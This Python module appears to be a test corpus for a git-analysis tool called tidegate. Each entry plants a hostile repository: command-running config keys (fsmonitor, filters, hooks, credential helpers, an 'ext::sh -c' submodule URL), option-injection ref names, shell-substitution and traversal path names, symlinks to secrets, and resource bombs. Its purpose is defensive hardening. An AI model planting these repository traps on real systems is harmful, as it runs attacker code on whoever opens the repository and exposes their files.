"""The corpus: each entry makes a repository that attacks whoever looks at it."""

from __future__ import annotations

import os
import zlib
from collections.abc import Callable
from hashlib import sha1
from pathlib import Path
from typing import NamedTuple

from tests.change.trees import SUBMODULE, SYMLINK, commit_tree
from tests.hostile.yard import Yard
from tidegate.change.git import open_repository
from tidegate.reach.journey import read_reach
from tidegate.reach.record.maps import FILE as MAP_FILE

HOOKS = [
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-commit",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "pre-receive",
    "update",
    "proc-receive",
    "post-receive",
    "post-update",
    "reference-transaction",
    "push-to-checkout",
    "pre-auto-gc",
    "post-rewrite",
    "sendemail-validate",
    "fsmonitor-watchman",
    "post-index-change",
]


class Entry(NamedTuple):
    """How a trap is laid, and what a person would do with plain git to set it off ("" where that is not quick)."""

    lay: Callable[[Yard], None]
    fires: tuple[str, ...] = ()

    @property
    def name(self) -> str:
        return self.lay.__name__.strip("_")


# Configuration that names commands


def fsmonitor(yard: Yard) -> None:
    yard.configure(f"[core]\n\tfsmonitor = {yard.trap('fsmonitor')}")


def external_diff(yard: Yard) -> None:
    yard.configure(f"[diff]\n\texternal = {yard.trap('external-diff')}")


def diff_drivers(yard: Yard) -> None:
    yard.configure(
        f'[diff "evil"]\n\ttextconv = {yard.trap("textconv")}\n\tcachetextconv = true\n'
        f'[diff "worse"]\n\tcommand = {yard.trap("diff-command")}\n'
        f'[merge "evil"]\n\tdriver = {yard.trap("merge-driver")}'
    )
    attributes = b"*.txt diff=evil merge=evil\n*.py diff=worse\n"
    yard.repo.write(".gitattributes", attributes)
    (yard.git_dir / "info").mkdir(exist_ok=True)
    (yard.git_dir / "info/attributes").write_bytes(attributes)


def filters(yard: Yard) -> None:
    yard.configure(
        f'[filter "evil"]\n\tclean = {yard.trap("clean")}\n\tsmudge = {yard.trap("smudge")}\n\trequired = true\n'
        f'[filter "worse"]\n\tprocess = {yard.trap("process")}'
    )
    yard.repo.write(".gitattributes", "*.txt filter=evil\n*.py filter=worse\n")


def signatures(yard: Yard) -> None:
    yard.configure(
        f'[gpg]\n\tprogram = {yard.trap("gpg")}\n[gpg "ssh"]\n\tprogram = {yard.trap("ssh-keygen")}\n'
        "[log]\n\tshowSignature = true"
    )
    tree, parent = yard.repo.head("HEAD^{tree}"), yard.repo.head()
    signature = "-----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n -----END PGP SIGNATURE-----"
    person = "Alice Smith <alice@example.com> 1770020000 +0000"
    text = f"tree {tree}\nparent {parent}\nauthor {person}\ncommitter {person}\ngpgsig {signature}\n\nSigned\n"
    _commit_raw(yard, text.encode())


def hooks(yard: Yard) -> None:
    for name in HOOKS:
        program = yard.git_dir / "hooks" / name
        program.parent.mkdir(exist_ok=True)
        program.write_bytes(Path(yard.trap(f"hook-{name}")).read_bytes())
        program.chmod(0o755)


def hooks_path(yard: Yard) -> None:
    folder = yard.top / "outside/hooks"
    folder.mkdir()
    for name in HOOKS:
        (folder / name).symlink_to(yard.trap(f"path-{name}"))
    yard.configure(f"[core]\n\thooksPath = {folder}")


def included_configuration(yard: Yard) -> None:
    config = yard.top / "outside/config"
    yard.configure(f"[core]\n\tfsmonitor = {yard.trap('include')}", config)
    yard.configure(f"[include]\n\tpath = {config}")


def conditionally_included_configuration(yard: Yard) -> None:
    config = yard.top / "outside/config"
    yard.configure(f"[core]\n\tfsmonitor = {yard.trap('include-if')}", config)
    yard.configure(f'[includeIf "gitdir:**"]\n\tpath = {config}\n[includeIf "onbranch:**"]\n\tpath = {config}')


def work_tree_configuration(yard: Yard) -> None:
    yard.configure("[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tworktreeConfig = true")
    yard.configure(f"[core]\n\tfsmonitor = {yard.trap('worktree-config')}", yard.git_dir / "config.worktree")


def pagers_and_editors(yard: Yard) -> None:
    trap = yard.trap("pager")
    verbs = ("log", "show", "diff", "blame", "rev-parse", "rev-list", "config", "cat-file", "diff-tree")
    yard.configure(
        f"[core]\n\tpager = {trap}\n\teditor = {trap}\n\taskPass = {trap}\n[sequence]\n\teditor = {trap}\n"
        f"[interactive]\n\tdiffFilter = {trap}\n[pager]\n" + "".join(f"\t{verb} = {trap}\n" for verb in verbs)
    )


def aliases(yard: Yard) -> None:
    verbs = ["st", "cat-file", "diff-tree", "rev-list", "rev-parse", "config", "tidegate"]
    yard.configure("[alias]\n" + "".join(f"\t{verb} = !{yard.trap('alias')}\n" for verb in verbs))


def lazy_fetch(yard: Yard) -> None:
    yard.configure(
        "[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tpartialClone = origin\n"
        f'[remote "origin"]\n\turl = ssh://attacker.invalid/x\n\tpromisor = true\n\tpartialclonefilter = blob:none\n'
        f"\tuploadpack = {yard.trap('upload-pack')}\n\n[core]\n\tsshCommand = {yard.trap('ssh')}\n"
        f"\tgitProxy = {yard.trap('proxy')}\n[protocol]\n\tallow = always"
    )
    blob = yard.repo.head("HEAD:a.txt")
    (yard.git_dir / "objects" / blob[:2] / blob[2:]).unlink()


def credentials(yard: Yard) -> None:
    yard.configure(
        f"[credential]\n\thelper = !{yard.trap('credential')}\n[core]\n\taskPass = {yard.trap('ask-pass')}\n"
        '[remote "origin"]\n\turl = https://user:TOP-SECRET-OF-ANOTHER-FILE@attacker.invalid/x/y.git\n'
        "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
        '[branch "feature"]\n\tremote = origin\n\tmerge = refs/heads/main'
    )


def alternate_refs(yard: Yard) -> None:
    yard.configure(f"[core]\n\talternateRefsCommand = {yard.trap('alternate-refs')}\n\talternateRefsPrefixes = refs")
    (yard.git_dir / "objects/info").mkdir(exist_ok=True)
    (yard.git_dir / "objects/info/alternates").write_text(f"{yard.top}/outside\n/proc/self/fd\n../../../outside\n")


def attributes_elsewhere(yard: Yard) -> None:
    attributes = yard.top / "outside/attributes"
    attributes.write_text("* diff=evil\n")
    yard.configure(f'[core]\n\tattributesFile = {attributes}\n[diff "evil"]\n\tcommand = {yard.trap("attributes")}')


def work_tree_elsewhere(yard: Yard) -> None:
    elsewhere = yard.top / "outside/tree"
    elsewhere.mkdir()
    (elsewhere / ".gitattributes").write_text("* filter=evil\n")
    (elsewhere / "tidegate.toml").symlink_to(yard.top / "outside/secret")
    yard.configure(f'[core]\n\tworktree = {elsewhere}\n[filter "evil"]\n\tclean = {yard.trap("worktree")}')


def files_of_other_people(yard: Yard) -> None:
    secret, pipe = yard.top / "outside/secret", yard.top / "outside/pipe"
    os.mkfifo(pipe)
    yard.configure(
        f"[mailmap]\n\tfile = {secret}\n\tblob = HEAD:a.txt\n[diff]\n\torderFile = {pipe}\n"
        f"[blame]\n\tignoreRevsFile = {pipe}\n[commit]\n\ttemplate = {secret}\n[core]\n\texcludesFile = {pipe}\n"
        f"[init]\n\ttemplateDir = {yard.top}/outside\n[notes]\n\tdisplayRef = refs/*\n"
        f"[trace2]\n\teventTarget = {secret}"
    )
    yard.repo.write(".mailmap", "Mallory <mallory@example.com> <alice@example.com>\n")


# Repositories within, and beside


def embedded_bare_repository(yard: Yard) -> None:
    inner = yard.repo.path / "docs/inner"
    yard.repo.git("init", "-q", "--bare", str(inner))
    yard.configure(f"[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = {yard.trap('embedded')}", inner / "config")
    yard.start = inner


def submodule(yard: Yard) -> None:
    inner = yard.repo.path / "sub"
    yard.repo.git("init", "-q", "-b", "main", str(inner))
    yard.configure(f"[core]\n\tfsmonitor = {yard.trap('submodule')}", inner / ".git/config")
    oid = yard.repo.head().encode()
    url = f"ext::sh -c {yard.trap('submodule-url')}"
    modules = f'[submodule "sub"]\n\tpath = sub\n\turl = {url}\n\tupdate = !{yard.trap("submodule-update")}\n'
    commit_tree(
        yard.repo, {b"sub": (SUBMODULE, oid), b".gitmodules": modules.encode()}, "Add sub", "refs/heads/feature"
    )
    yard.repo.git("update-index", "--add", "--cacheinfo", f"160000,{oid.decode()},sub")
    yard.configure(
        f'[submodule "sub"]\n\turl = {url}\n\tactive = true\n\tupdate = !{yard.trap("submodule-update")}\n'
        "[diff]\n\tsubmodule = log\n\tignoreSubmodules = none\n[status]\n\tsubmoduleSummary = true\n"
        "[protocol]\n\tallow = always\n[submodule]\n\trecurse = true"
    )


def git_file_to_elsewhere(yard: Yard) -> None:
    yard.repo.git("init", "-q", "-b", "main", str(yard.top / "outside/other"))
    yard.configure(f"[core]\n\tfsmonitor = {yard.trap('git-file')}", yard.top / "outside/other/.git/config")
    yard.start = yard.repo.path / "nested"
    yard.start.mkdir()
    (yard.start / ".git").write_text(f"gitdir: {yard.top}/outside/other/.git\n")


def programs_in_the_work_tree(yard: Yard) -> None:
    for name in ("git", "git-diff-tree", "less", "ssh", "gpg", "sh"):
        (yard.repo.path / name).symlink_to(yard.trap(f"path-{name}"))
    yard.environment["PATH"] = f".:bin::{os.environ['PATH']}"


def environment_of_the_caller(yard: Yard) -> None:
    trap = yard.trap("environment")
    trace = str(yard.top / "outside/trace")
    yard.environment.update(
        {
            **dict.fromkeys(("GIT_EXTERNAL_DIFF", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_PAGER", "PAGER"), trap),
            **dict.fromkeys(("GIT_EDITOR", "GIT_ASKPASS", "SSH_ASKPASS", "GIT_PROXY_COMMAND", "EDITOR"), trap),
            **dict.fromkeys(("GIT_TRACE", "GIT_TRACE2", "GIT_TRACE2_EVENT", "GIT_TRACE_SETUP"), trace),
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "core.fsmonitor",
            "GIT_CONFIG_VALUE_0": trap,
            "GIT_CONFIG_PARAMETERS": f"'core.fsmonitor={trap}'",
            "GIT_CONFIG_GLOBAL": str(yard.top / "outside/global"),
            "GIT_CONFIG_SYSTEM": str(yard.top / "outside/global"),
            "XDG_CONFIG_HOME": str(yard.top / "outside/xdg"),
            "GIT_EXEC_PATH": str(yard.top / "outside"),
            "GIT_TEMPLATE_DIR": str(yard.top / "outside"),
            "GIT_DIR": str(yard.top / "outside/nowhere"),
            "GIT_WORK_TREE": str(yard.top / "outside"),
            "GIT_INDEX_FILE": str(yard.top / "outside/index"),
            "GIT_OBJECT_DIRECTORY": str(yard.top / "outside/objects"),
            "GIT_NAMESPACE": "evil",
            "GIT_ATTR_SOURCE": "HEAD",
        }
    )
    yard.configure(f"[core]\n\tfsmonitor = {trap}\n[diff]\n\texternal = {trap}", yard.top / "outside/global")
    (yard.top / "outside/xdg/git").mkdir(parents=True)
    yard.configure(f"[core]\n\tfsmonitor = {trap}", yard.top / "outside/xdg/git/config")
    yard.configure(f"[core]\n\tfsmonitor = {trap}", yard.top / "home/.gitconfig")


def configuration_of_the_home(yard: Yard) -> None:
    yard.configure(
        f"[core]\n\tfsmonitor = {yard.trap('home')}\n[diff]\n\texternal = {yard.trap('home')}",
        yard.top / "home/.gitconfig",
    )


# Names


def options_as_names(yard: Yard) -> None:
    pwned = f"--output={yard.top}/outside/pwned"
    for ref in (f"refs/heads/{pwned}", "refs/heads/--no-index", "refs/tags/-O", "refs/remotes/origin/--upload-pack=x"):
        target = yard.git_dir / ref
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(yard.repo.head("main") + "\n")
    (yard.git_dir / "HEAD").write_text(f"ref: refs/heads/{pwned}\n")
    yard.configure(f'[branch "{pwned}"]\n\tremote = --exec=x\n\tmerge = refs/heads/--no-index')
    yard.configure('[branch "feature"]\n\tremote = .\n\tmerge = refs/heads/--no-index')
    yard.extra += [("check", "--", f"{pwned}..feature"), ("check", "--", f"main..{pwned}"), ("check", "--", pwned)]
    yard.extra += [
        ("who", "--rev", pwned, "a.txt"),
        ("who", "--", f"{pwned}:1"),
        ("check", "refs/heads/--no-index..feature"),
    ]
    yard.extra += [("provenance", "audit", "--ref", pwned), ("provenance", "audit", "--", f"{pwned}..feature")]


def paths_in_raw_trees(yard: Yard) -> None:
    blob = yard.repo.git("hash-object", "-w", "--stdin", stdin=b"secret = 1\n")
    names = [b"..", b".", b".git", b"\x1b]0;pwned\x07\x1b[2J", b"a\nb", b"-rf", b"::error file=x::pwned", b"\xff\xfe"]
    names += [
        "\u202egnp.exe".encode(),
        b"../../outside/pwned",
        b"/etc/passwd",
        b"con:",
        b".GIT",
        b"`id`",
        b"$(id)",
        b"%0A",
    ]
    entries = b"".join(b"100644 " + name + b"\0" + bytes.fromhex(blob) for name in sorted(names))
    hooks = b"40000 .git\0" + _write(yard, "tree", b"100755 hook\0" + bytes.fromhex(blob))
    tree = _write(yard, "tree", b"40000 ..\0" + _write(yard, "tree", entries + hooks))
    _commit_raw(yard, _commit_text(yard, tree.hex()))


def links_out_of_the_tree(yard: Yard) -> None:
    secret = os.fsencode(yard.top / "outside/secret")
    names = [b".gitattributes", b"CODEOWNERS", b".github/CODEOWNERS", b".mailmap", b"link", b"docs"]
    commit_tree(yard.repo, dict.fromkeys(names, (SYMLINK, secret)), "Links", "refs/heads/main")
    yard.repo.git("checkout", "-qf", "main")
    yard.repo.git("checkout", "-q", "-b", "linked")
    commit_tree(yard.repo, {b"tidegate.toml": (SYMLINK, secret), b"a.txt": b"x\n"}, "More", "refs/heads/linked")
    commit_tree(yard.repo, {b".tidegate": (SYMLINK, b"/proc/self"), b"a.txt": b"y\n"}, "More", "refs/heads/linked")
    yard.repo.git("reset", "-q", "--hard")
    yard.extra += [("who", "link:1"), ("policy", "lint"), ("check", "--config", "tidegate.toml", "--stage", "commit")]


def loops_of_links(yard: Yard) -> None:
    loop = {b".tidegate": b".tidegate", b"a": b"b", b"b": b"a", b"CODEOWNERS": b"./CODEOWNERS", b"self": b"."}
    commit_tree(yard.repo, {name: (SYMLINK, to) for name, to in loop.items()}, "Loops", "refs/heads/feature")
    commit_tree(yard.repo, {b"c": b"1\n"}, "After", "refs/heads/feature")
    yard.repo.git("reset", "-q", "--hard")
    yard.extra += [("policy", "lint"), ("who", "self/a.txt:1"), ("who", "a:1")]


# Objects


def replaced_objects(yard: Yard) -> None:
    head, base = yard.repo.head(), yard.repo.head("main")
    (yard.git_dir / "refs/replace").mkdir(parents=True)
    (yard.git_dir / "refs/replace" / head).write_text(base + "\n")
    (yard.git_dir / "info").mkdir(exist_ok=True)
    (yard.git_dir / "info/grafts").write_text(f"{head}\n{base} {head}\n")


def broken_shallow_file(yard: Yard) -> None:
    (yard.git_dir / "shallow").write_bytes(b"\0\xff garbage\n" + yard.repo.head("main").encode() + b"\n../../x\n")


def ten_megabyte_lines(yard: Yard) -> None:
    line = b"password = '" + b"x" * 10_000_000 + b"'"
    commit_tree(yard.repo, {b"long.py": line}, "Long", "refs/heads/feature")


def endless_message(yard: Yard) -> None:
    commit_tree(yard.repo, {b"a.txt": b"1\n"}, "x" * 3_000_000, "refs/heads/feature")


def two_thousand_levels(yard: Yard) -> None:
    tree = _write(yard, "tree", b"100644 f\0" + bytes.fromhex(yard.repo.head("HEAD:a.txt")))
    data = [tree]
    for _ in range(2000):
        data.append(sha1(_object("tree", b"40000 d\0" + data[-1])).digest())
    for level, below in enumerate(data[:-1]):
        content = b"40000 d\0" + below
        _store(yard, data[level + 1], zlib.compress(_object("tree", content), 1))
    _commit_raw(yard, _commit_text(yard, data[-1].hex()))


def truncated_object(yard: Yard) -> None:
    blob = yard.repo.head("HEAD:a.txt")
    path = yard.git_dir / "objects" / blob[:2] / blob[2:]
    path.chmod(0o644)
    path.write_bytes(path.read_bytes()[:-6])


def truncated_tree(yard: Yard) -> None:
    tree = yard.repo.head("HEAD^{tree}")
    path = yard.git_dir / "objects" / tree[:2] / tree[2:]
    path.chmod(0o644)
    path.write_bytes(b"\x78\x01garbage")


def broken_index(yard: Yard) -> None:
    (yard.git_dir / "index").write_bytes((yard.git_dir / "index").read_bytes()[:40] + b"\xff" * 100)


def blob_that_claims_a_gigabyte(yard: Yard) -> None:
    oid = sha1(b"claims").digest()
    _store(yard, oid, zlib.compress(b"blob 1073741824\0" + b"x" * 5000))
    tree = _write(yard, "tree", b"100644 a.txt\0" + oid + b"100644 tidegate.toml\0" + oid)
    _commit_raw(yard, _commit_text(yard, tree.hex()))


def bomb(yard: Yard) -> None:
    content = b"a\n" * (1 << 16)
    commit_tree(yard.repo, {b"%d" % n: content for n in range(3)}, "Boom", "refs/heads/feature")


def pipes_for_files(yard: Yard) -> None:
    for name in ("shallow", "config.worktree", "info/attributes", "info/grafts", "commondir"):
        (yard.git_dir / name).parent.mkdir(exist_ok=True)
        os.mkfifo(yard.git_dir / name)
    (yard.git_dir / "config").unlink()
    os.mkfifo(yard.git_dir / "config")


_DOTS = "a." * 100_000 + "a = 1\n"
_DIGITS = "1" * 5000
_DEEP = "[" * 100_000
_LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
)
_EXPLOSIONS = {
    "pyproject.toml": _DOTS,
    "dots/Cargo.toml": _DOTS,
    "dots/Cargo.lock": _DOTS,
    "dots/poetry.lock": _DOTS,
    "dots/Pipfile": _DOTS,
    "dots/gradle/libs.versions.toml": _DOTS,
    "dots/fly.toml": _DOTS,
    "digits/pyproject.toml": f"[project.scripts]\nx = {_DIGITS}\n",
    "digits/package.json": f'{{"name": "x", "bin": {_DIGITS}, "scripts": {{"a": {_DIGITS}}}}}',
    "digits/Pipfile.lock": f'{{"default": {{"a": {{"version": {_DIGITS}}}}}}}',
    "deep/package.json": '{"exports": ' + _DEEP,
    "deep/tsconfig.json": '{"compilerOptions": {"paths": ' + _DEEP,
    "deep/serverless.yml": "functions: " + _DEEP,
    "deep/schema.graphql": "type Query { a: " + _DEEP,
    "deep/shop.proto": "service A { rpc B (" + "(" * 100_000,
    "laughs/compose.yaml": _LAUGHS + "services: *a11\n",
    "laughs/pnpm-workspace.yaml": _LAUGHS + "packages: *a11\n",
    "laughs/catalog-info.yaml": _LAUGHS + "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata: *a11\n",
    "laughs/deploy.yaml": _LAUGHS + "apiVersion: apps/v1\nkind: Deployment\nmetadata: *a11\n",
    "slow/package.json": '{"name": "x", "workspaces": ["' + "*a" * 90 + '", "' + "**/a/" * 40 + '"]}',
    "slow/" + "a" * 200 + "/package.json": '{"name": "y"}',
    "slow/compose.yaml": "services:\n  web:\n    build: " + "a/../" * 50_000 + "\n",
    "slow/Dockerfile": "FROM scratch\nENV A=" + "${A}" * 50_000 + "\nCOPY $A$A$A " + "a " * 50_000 + "\n",
    "slow/.dockerignore": "*a" * 5000 + "\n" + "**/" * 5000 + "\n",
    "slow/Makefile": "x:\n\t" + "python " * 100_000 + "\n",
    "slow/crontab": "* " * 100_000 + "\n",
    "slow/query.sql": "SELECT * FROM " + "a.b, " * 100_000,
    "slow/page.html": "{% extends " * 50_000,
    "slow/go.mod": "module x\nreplace " + "a => b " * 50_000,
    "slow/requirements.txt": "a[" + "b," * 100_000 + "]==1\n",
    "slow/build.gradle": "implementation(" * 50_000,
    "slow/pom.xml": "<a>" * 100_000,
    "slow/Gemfile": "gem 'a', " * 50_000,
    "slow/app.py": "x = f'{" * 5000 + "\n",
    "slow/api.ts": "const a: A<" * 50_000,
    "slow/url.rs": "fn a() { " + "a!(" * 50_000,
}


def manifests_that_explode(yard: Yard) -> None:
    """What takes a power of time or memory to read, in every kind of file that says something of a program."""
    texts = {os.fsencode(path): text.encode() for path, text in _EXPLOSIONS.items()}
    base = {path: b"x" for path in texts if path != b"pyproject.toml"}
    commit_tree(yard.repo, base, "Base", "refs/heads/main")
    commit_tree(yard.repo, {**base, **texts, b"src/app.py": b"import os\n"}, "Change", "refs/heads/feature")


def kept_data_behind_a_link(yard: Yard) -> None:
    (yard.top / "outside/reach").mkdir()
    (yard.git_dir / "tidegate").symlink_to(yard.top / "outside")


def kept_data_behind_the_second_link(yard: Yard) -> None:
    (yard.top / "outside/reach").mkdir()
    (yard.git_dir / "tidegate").mkdir()
    (yard.git_dir / "tidegate/reach").symlink_to(yard.top / "outside/reach")


def pipes_for_kept_data(yard: Yard) -> None:
    """Every name that a run before has kept is a pipe that nobody writes into, and so is the recorded map."""
    folder = yard.git_dir / "tidegate/reach"
    with open_repository(yard.repo.path) as repository:
        read_reach("main..feature", repository, environment={})
    names = [path.name for path in folder.iterdir()]
    assert any(name.startswith("value-") for name in names)
    for name in names:
        (folder / name).unlink()
        os.mkfifo(folder / name)
    os.mkfifo(folder / MAP_FILE)


def pipe_for_packed_refs(yard: Yard) -> None:
    os.mkfifo(yard.git_dir / "packed-refs")


def pipe_for_an_object(yard: Yard) -> None:
    blob = yard.repo.head("HEAD:a.txt")
    path = yard.git_dir / "objects" / blob[:2] / blob[2:]
    path.unlink()
    os.mkfifo(path)


CORPUS = (
    Entry(fsmonitor, ("status",)),
    Entry(external_diff, ("diff", "HEAD~1")),
    Entry(diff_drivers, ("diff", "HEAD~1")),
    Entry(filters, ("add", ".")),
    Entry(signatures, ("log", "-1")),
    Entry(hooks, ("update-ref", "refs/heads/x", "HEAD")),
    Entry(hooks_path, ("update-ref", "refs/heads/x", "HEAD")),
    Entry(included_configuration, ("status",)),
    Entry(conditionally_included_configuration, ("status",)),
    Entry(work_tree_configuration, ("status",)),
    Entry(pagers_and_editors, ("commit", "--amend", "--allow-empty")),
    Entry(aliases, ("st",)),
    Entry(lazy_fetch, ("cat-file", "-p", "HEAD:a.txt")),
    Entry(credentials),
    Entry(alternate_refs),
    Entry(attributes_elsewhere, ("diff", "HEAD~1")),
    Entry(work_tree_elsewhere),
    Entry(files_of_other_people),
    Entry(embedded_bare_repository, ("status",)),
    Entry(submodule),
    Entry(git_file_to_elsewhere, ("status",)),
    Entry(programs_in_the_work_tree),
    Entry(environment_of_the_caller),
    Entry(configuration_of_the_home, ("status",)),
    Entry(options_as_names),
    Entry(paths_in_raw_trees),
    Entry(links_out_of_the_tree),
    Entry(loops_of_links),
    Entry(replaced_objects),
    Entry(broken_shallow_file),
    Entry(ten_megabyte_lines),
    Entry(endless_message),
    Entry(two_thousand_levels),
    Entry(truncated_object),
    Entry(truncated_tree),
    Entry(broken_index),
    Entry(blob_that_claims_a_gigabyte),
    Entry(bomb),
    Entry(pipes_for_files),
    Entry(manifests_that_explode),
    Entry(kept_data_behind_a_link),
    Entry(kept_data_behind_the_second_link),
    Entry(pipes_for_kept_data),
    Entry(pipe_for_packed_refs),
    Entry(pipe_for_an_object),
)


# Private


def _object(kind: str, content: bytes) -> bytes:
    return b"%s %d\0" % (kind.encode(), len(content)) + content


def _write(yard: Yard, kind: str, content: bytes) -> bytes:
    """Stores an object that git itself would not make, and answers its id."""
    data = _object(kind, content)
    oid = sha1(data).digest()
    _store(yard, oid, zlib.compress(data, 1))
    return oid


def _store(yard: Yard, oid: bytes, compressed: bytes) -> None:
    path = yard.git_dir / "objects" / oid.hex()[:2] / oid.hex()[2:]
    path.parent.mkdir(exist_ok=True)
    if not path.exists():
        path.write_bytes(compressed)


def _commit_text(yard: Yard, tree: str) -> bytes:
    person = "Alice Smith <alice@example.com> 1770020000 +0000"
    return f"tree {tree}\nparent {yard.repo.head()}\nauthor {person}\ncommitter {person}\n\nHostile\n".encode()


def _commit_raw(yard: Yard, text: bytes) -> None:
    oid = _write(yard, "commit", text).hex()
    (yard.git_dir / "refs/heads/feature").write_text(oid + "\n")
